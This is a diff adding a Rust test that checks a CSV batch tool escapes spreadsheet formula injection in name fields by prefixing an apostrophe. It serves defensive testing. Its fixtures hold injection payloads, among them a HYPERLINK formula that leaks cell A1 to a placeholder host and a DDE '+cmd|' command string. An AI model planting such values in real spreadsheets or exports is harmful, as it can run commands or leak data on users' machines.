@@ -178,6 +178,43 @@ fn hostile_and_duplicate_names_stay_inside_and_apart() {
 }
 
 #[test]
+fn formulas_in_names_are_never_written_as_formulas() {
+    let dir = tempfile::tempdir().unwrap();
+    let rows = vec![
+        r#"shanghai/residence-registration,"=HYPERLINK(""http://x/?""&A1,""x"")",,offline,owned,,,,"#.to_string(),
+        r#"shanghai/residence-registration,"+cmd|' /C calc'!A0",,offline,castle,,,,"#.to_string(),
+        "shanghai/residence-registration,@SUM(A1),,offline,castle,,,,".to_string(),
+        "shanghai/residence-registration,-1+2,,offline,owned,,,,".to_string(),
+    ];
+    let sheet = write_sheet(dir.path(), "s.csv", &rows);
+    let out = dir.path().join("out");
+    let (code, stderr) = run_batch(&sheet, &out, &[]);
+    assert_eq!(code, 1, "{stderr}");
+    let summary = read_csv(&out.join("summary.csv"));
+    let names: Vec<&str> = summary[1..].iter().map(|r| r[1].as_str()).collect();
+    assert_eq!(
+        names,
+        [
+            r#"'=HYPERLINK("http://x/?"&A1,"x")"#,
+            "'+cmd|' /C calc'!A0",
+            "'@SUM(A1)",
+            "'-1+2"
+        ]
+    );
+    let errors = read_csv(&out.join("errors.csv"));
+    assert_eq!(errors.len(), 3, "{errors:?}");
+    assert_eq!(errors[1][1], "'+cmd|' /C calc'!A0");
+    assert_eq!(errors[2][1], "'@SUM(A1)");
+    for cell in summary.iter().chain(&errors).flatten() {
+        let cell = cell.trim_start_matches('\u{feff}');
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{cell:?}"
+        );
+    }
+}
+
+#[test]
 fn gbk_and_bom_sheets_read_like_utf8() {
     let dir = tempfile::tempdir().unwrap();
     let rows = mixed_rows();
